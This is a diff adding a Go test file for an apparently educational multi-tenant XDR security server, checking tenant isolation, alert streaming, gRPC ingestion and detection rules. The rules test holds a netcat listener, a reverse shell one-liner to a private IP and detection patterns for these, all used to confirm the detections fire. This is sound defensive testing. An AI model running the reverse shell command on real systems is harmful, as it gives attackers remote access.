@@ -0,0 +1,361 @@
+package main
+
+import (
+	"bufio"
+	"context"
+	"encoding/json"
+	"io"
+	"log/slog"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+	"time"
+
+	"google.golang.org/grpc"
+	"google.golang.org/grpc/credentials/insecure"
+	"google.golang.org/grpc/metadata"
+	"google.golang.org/grpc/test/bufconn"
+
+	"12-capstones/xdr-agent/xdrpb"
+)
+
+// newTenantServer returns a server with auth on and, for the acme and
+// globex tenants, an agent, a viewer and an admin key. "operator" is an
+// admin of the default tenant.
+func newTenantServer(t *testing.T) (*server, map[string]string) {
+	t.Helper()
+	s := newServer(slog.New(slog.NewTextHandler(io.Discard, nil)))
+	store, err := openAuthStore("", []byte("test-secret"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.auth = store
+
+	keys := make(map[string]string)
+	add := func(name, role, tenant string) {
+		key, err := store.addKey(name, role, tenant, time.Now())
+		if err != nil {
+			t.Fatal(err)
+		}
+		keys[name] = key
+	}
+	add("operator", RoleAdmin, defaultTenant)
+	for _, tenant := range []string{"acme", "globex"} {
+		add(tenant+"-agent", RoleAgent, tenant)
+		add(tenant+"-viewer", RoleViewer, tenant)
+		add(tenant+"-admin", RoleAdmin, tenant)
+	}
+	return s, keys
+}
+
+// tenantClient sends requests to h as one key's holder.
+type tenantClient struct {
+	t   *testing.T
+	h   http.Handler
+	key string
+}
+
+func (c tenantClient) do(method, url, body string) *httptest.ResponseRecorder {
+	req := httptest.NewRequest(method, url, strings.NewReader(body))
+	req.Header.Set("X-API-Key", c.key)
+	rr := httptest.NewRecorder()
+	c.h.ServeHTTP(rr, req)
+	return rr
+}
+
+// get decodes a 200 answer into v.
+func (c tenantClient) get(url string, v any) {
+	c.t.Helper()
+	rr := c.do("GET", url, "")
+	if rr.Code != http.StatusOK {
+		c.t.Fatalf("GET %s = %d: %s", url, rr.Code, rr.Body)
+	}
+	if err := json.NewDecoder(rr.Body).Decode(v); err != nil {
+		c.t.Fatalf("GET %s: %v", url, err)
+	}
+}
+
+func TestTenantIsolation(t *testing.T) {
+	s, keys := newTenantServer(t)
+	h := s.routes()
+	client := func(name string) tenantClient { return tenantClient{t, h, keys[name]} }
+
+	// Both tenants run a web-1 and happen to send an alert with the same ID
+	for _, tenant := range []string{"acme", "globex"} {
+		alert := `{"id":"a1","agent_id":"web-1","event_type":"UNAUTHORIZED_ACCESS","details":"miner_x running at ` + tenant + `","timestamp":1700000000}`
+		if rr := client(tenant+"-agent").do("POST", "/audit", alert); rr.Code != http.StatusOK {
+			t.Fatalf("%s POST /audit = %d", tenant, rr.Code)
+		}
+		// An agent can't pick its tenant by claiming one
+		client(tenant+"-agent").do("POST", "/audit", `{"id":"a2","agent_id":"web-1","event_type":"FILE_MODIFIED","details":"`+tenant+` claims default","tenant":"default"}`)
+	}
+	if agents := s.tenant(defaultTenant).agents.list(); len(agents) != 0 {
+		t.Errorf("default tenant has agents %+v; every alert had a tenant key", agents)
+	}
+
+	acme, globex := client("acme-admin"), client("globex-viewer")
+	if rr := acme.do("POST", "/cases", `{"title":"Miner at acme","incidents":["INC-0001"]}`); rr.Code != http.StatusCreated {
+		t.Fatalf("acme POST /cases = %d: %s", rr.Code, rr.Body)
+	}
+	if rr := acme.do("POST", "/suppressions", `{"event_type":"FILE_MODIFIED","reason":"acme's backups touch everything"}`); rr.Code != http.StatusCreated {
+		t.Fatalf("acme POST /suppressions = %d: %s", rr.Code, rr.Body)
+	}
+	if rr := acme.do("POST", "/hunts", `{"name":"acme miners","query":"miner"}`); rr.Code != http.StatusCreated {
+		t.Fatalf("acme POST /hunts = %d: %s", rr.Code, rr.Body)
+	}
+
+	// Globex sees only what its own agents sent
+	var timeline []TimelineEvent
+	globex.get("/agents/web-1/timeline", &timeline)
+	if len(timeline) != 2 {
+		t.Fatalf("globex web-1 timeline has %d events, want 2", len(timeline))
+	}
+	for _, e := range timeline {
+		if e.Tenant != "globex" || strings.Contains(e.Details, "acme") {
+			t.Errorf("globex timeline holds %+v", e.Alert)
+		}
+	}
+	var incidents []Incident
+	globex.get("/incidents", &incidents)
+	if len(incidents) != 1 || incidents[0].Tenant != "globex" || !strings.Contains(incidents[0].Detections[0].RuleName, "miner") {
+		t.Errorf("globex incidents = %+v, want its own miner detection", incidents)
+	}
+	var inc Incident
+	globex.get("/incidents/INC-0001", &inc)
+	if inc.Tenant != "globex" {
+		t.Errorf("globex INC-0001 is %s's", inc.Tenant)
+	}
+	var res huntResult
+	rr := globex.do("POST", "/hunt", `{"query":"miner OR claims","from":"0"}`)
+	json.NewDecoder(rr.Body).Decode(&res)
+	if res.Scanned != 2 || res.Matched != 2 {
+		t.Errorf("globex hunt scanned %d and matched %d, want only its own 2", res.Scanned, res.Matched)
+	}
+	for _, e := range res.Events {
+		if e.Tenant != "globex" {
+			t.Errorf("globex hunt found %+v", e.Alert)
+		}
+	}
+
+	// Acme's suppression didn't hide globex's FILE_MODIFIED
+	for _, e := range timeline {
+		if e.Suppressed != "" {
+			t.Errorf("globex alert %s suppressed by %s", e.ID, e.Suppressed)
+		}
+	}
+
+	// Acme's cases, suppressions and hunts are invisible and untouchable
+	for _, url := range []string{"/cases", "/suppressions", "/hunts"} {
+		var list []json.RawMessage
+		globex.get(url, &list)
+		if len(list) != 0 {
+			t.Errorf("globex GET %s = %s", url, list)
+		}
+	}
+	globexAdmin := client("globex-admin")
+	for _, req := range []struct{ method, url, body string }{
+		{"GET", "/cases/CASE-0001", ""},
+		{"POST", "/cases/CASE-0001/notes", `{"text":"hello from globex"}`},
+		{"DELETE", "/suppressions/SUP-0001", ""},
+		{"POST", "/hunts/HUNT-0001/run", ""},
+		{"DELETE", "/hunts/HUNT-0001", ""},
+	} {
+		if rr := globexAdmin.do(req.method, req.url, req.body); rr.Code != http.StatusNotFound {
+			t.Errorf("globex %s %s = %d, want 404", req.method, req.url, rr.Code)
+		}
+	}
+
+	// So are acme's keys and audit trail
+	var apiKeys []APIKey
+	globexAdmin.get("/api-keys", &apiKeys)
+	for _, k := range apiKeys {
+		if k.Tenant != "globex" {
+			t.Errorf("globex admin lists key %s of %s", k.Name, k.Tenant)
+		}
+	}
+	if rr := globexAdmin.do("DELETE", "/api-keys/acme-agent", ""); rr.Code != http.StatusNotFound {
+		t.Errorf("globex admin revoking acme's key = %d, want 404", rr.Code)
+	}
+	if rr := globexAdmin.do("POST", "/api-keys", `{"name":"sneaky","role":"agent","tenant":"acme"}`); rr.Code != http.StatusForbidden {
+		t.Errorf("globex admin creating an acme key = %d, want 403", rr.Code)
+	}
+	if rr := globexAdmin.do("GET", "/audit-log", ""); rr.Code != http.StatusOK || strings.Contains(rr.Body.String(), "acme") {
+		t.Errorf("globex audit export = %d: %s", rr.Code, rr.Body)
+	}
+	if rr := globexAdmin.do("GET", "/metrics", ""); rr.Code != http.StatusForbidden {
+		t.Errorf("globex GET /metrics = %d, want 403", rr.Code)
+	}
+
+	// The operator can hand out keys for any tenant
+	rr = client("operator").do("POST", "/api-keys", `{"name":"initech-agent","role":"agent","tenant":"initech"}`)
+	var created map[string]string
+	json.NewDecoder(rr.Body).Decode(&created)
+	if rr.Code != http.StatusCreated || created["tenant"] != "initech" {
+		t.Errorf("operator creating an initech key = %d %v", rr.Code, created)
+	}
+}
+
+func TestTenantAlertStream(t *testing.T) {
+	s, keys := newTenantServer(t)
+	srv := httptest.NewServer(s.routes())
+	// Cleanups run last-in first-out, so the streams close before the server
+	t.Cleanup(srv.Close)
+
+	// subscribe returns the IDs of the alerts streamed to a key's holder
+	subscribe := func(key string) <-chan string {
+		req, _ := http.NewRequest("GET", srv.URL+"/alerts/stream", nil)
+		req.Header.Set("X-API-Key", key)
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		t.Cleanup(func() { resp.Body.Close() })
+		ids := make(chan string, 10)
+		go func() {
+			sc := bufio.NewScanner(resp.Body)
+			for sc.Scan() {
+				if data, ok := strings.CutPrefix(sc.Text(), "data: "); ok {
+					var a Alert
+					json.Unmarshal([]byte(data), &a)
+					ids <- a.Tenant + "/" + a.ID
+				}
+			}
+		}()
+		return ids
+	}
+	acme, globex := subscribe(keys["acme-viewer"]), subscribe(keys["globex-viewer"])
+	waitFor(t, "both subscribers", func() bool {
+		return s.tenant("acme").stream.subscribers() == 1 && s.tenant("globex").stream.subscribers() == 1
+	})
+
+	post := func(key, id string) {
+		req, _ := http.NewRequest("POST", srv.URL+"/audit", strings.NewReader(`{"id":"`+id+`","agent_id":"web-1","event_type":"FILE_MODIFIED","details":"x"}`))
+		req.Header.Set("X-API-Key", key)
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+	}
+	post(keys["acme-agent"], "acme-1")
+	post(keys["globex-agent"], "globex-1")
+
+	// Each stream's first alert is its own tenant's: the other one's was
+	// never sent to it
+	for name, ch := range map[string]<-chan string{"acme": acme, "globex": globex} {
+		select {
+		case got := <-ch:
+			if got != name+"/"+name+"-1" {
+				t.Errorf("%s stream got %s first", name, got)
+			}
+		case <-time.After(5 * time.Second):
+			t.Fatalf("%s stream got nothing", name)
+		}
+	}
+}
+
+func TestTenantGRPC(t *testing.T) {
+	s, keys := newTenantServer(t)
+	lis := bufconn.Listen(1 << 20)
+	svc := &grpcService{s: s}
+	gs := grpc.NewServer(grpc.UnaryInterceptor(svc.unaryAuth), grpc.StreamInterceptor(svc.streamAuth))
+	xdrpb.RegisterXDRServer(gs, svc)
+	go gs.Serve(lis)
+	defer gs.Stop()
+	conn, err := grpc.NewClient("passthrough:///bufnet",
+		grpc.WithContextDialer(func(ctx context.Context, _ string) (net.Conn, error) { return lis.DialContext(ctx) }),
+		grpc.WithTransportCredentials(insecure.NewCredentials()),
+	)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+	client := xdrpb.NewXDRClient(conn)
+
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+	ctx = metadata.AppendToOutgoingContext(ctx, "x-api-key", keys["globex-agent"])
+	stream, err := client.StreamAlerts(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	stream.Send(&xdrpb.Alert{Id: "g1", AgentId: "db-1", EventType: "AGENT_TAMPER", Details: "binary replaced"})
+	if _, err := stream.Recv(); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := client.SendHeartbeat(ctx, &xdrpb.Heartbeat{AgentId: "db-2"}); err != nil {
+		t.Fatal(err)
+	}
+
+	if agents := s.tenant("globex").agents.list(); len(agents) != 2 {
+		t.Errorf("globex agents = %+v, want db-1 and db-2", agents)
+	}
+	for _, other := range []string{defaultTenant, "acme"} {
+		if n := len(s.tenant(other).agents.list()); n != 0 {
+			t.Errorf("%s has %d agents from globex's key", other, n)
+		}
+	}
+}
+
+func TestTenantRules(t *testing.T) {
+	s, keys := newTenantServer(t)
+	h := s.routes()
+	client := func(name string) tenantClient { return tenantClient{t, h, keys[name]} }
+	acme, operator := client("acme-admin"), client("operator")
+
+	// Tenant admins write their own rules, never global or another tenant's
+	if rr := acme.do("PUT", "/rules/acme-001", `{"name":"Netcat listener","event_type":"PROCESS_START","contains":"nc -l","severity":"high"}`); rr.Code != http.StatusCreated {
+		t.Fatalf("acme PUT own rule = %d: %s", rr.Code, rr.Body)
+	}
+	if rr := acme.do("PUT", "/rules/xdr-002", `{"name":"off","event_type":"AGENT_TAMPER","severity":"low","disabled":true}`); rr.Code != http.StatusForbidden {
+		t.Errorf("acme disabling a global rule = %d, want 403", rr.Code)
+	}
+	if rr := acme.do("DELETE", "/rules/xdr-002", ""); rr.Code != http.StatusForbidden {
+		t.Errorf("acme deleting a global rule = %d, want 403", rr.Code)
+	}
+	if rr := acme.do("PUT", "/rules/acme-002", `{"name":"x","event_type":"X","severity":"low","tenant":"globex"}`); rr.Code != http.StatusForbidden {
+		t.Errorf("acme writing a globex rule = %d, want 403", rr.Code)
+	}
+	if rr := operator.do("PUT", "/rules/acme-001", `{"name":"clash","event_type":"X","severity":"low"}`); rr.Code != http.StatusConflict {
+		t.Errorf("global rule with a tenant rule's ID = %d, want 409", rr.Code)
+	}
+
+	// The operator shares a new rule with everyone
+	if rr := operator.do("PUT", "/rules/xdr-100", `{"name":"Reverse shell","event_type":"PROCESS_START","contains":"/dev/tcp","severity":"critical"}`); rr.Code != http.StatusCreated {
+		t.Fatalf("operator PUT global rule = %d: %s", rr.Code, rr.Body)
+	}
+
+	for _, tenant := range []string{"acme", "globex"} {
+		agent := client(tenant + "-agent")
+		agent.do("POST", "/audit", `{"id":"p1","agent_id":"web-1","event_type":"PROCESS_START","details":"nc -l 4444"}`)
+		agent.do("POST", "/audit", `{"id":"p2","agent_id":"web-1","event_type":"PROCESS_START","details":"bash -i >& /dev/tcp/10.0.0.1/4444"}`)
+	}
+	rulesHit := func(tenant string) []string {
+		var ids []string
+		for _, inc := range s.tenant(tenant).incidents.list() {
+			for _, d := range inc.Detections {
+				ids = append(ids, d.RuleID)
+			}
+		}
+		return ids
+	}
+	if got := strings.Join(rulesHit("acme"), ","); got != "acme-001,xdr-100" {
+		t.Errorf("acme detections = %s, want its own rule and the global one", got)
+	}
+	if got := strings.Join(rulesHit("globex"), ","); got != "xdr-100" {
+		t.Errorf("globex detections = %s, want only the global rule", got)
+	}
+
+	var rules []Rule
+	client("globex-viewer").get("/rules", &rules)
+	for _, r := range rules {
+		if r.Tenant != "" {
+			t.Errorf("globex sees rule %s of %s", r.ID, r.Tenant)
+		}
+	}
+	if len(rules) != len(defaultRules)+1 {
+		t.Errorf("globex sees %d rules, want the %d global ones", len(rules), len(defaultRules)+1)
+	}
+}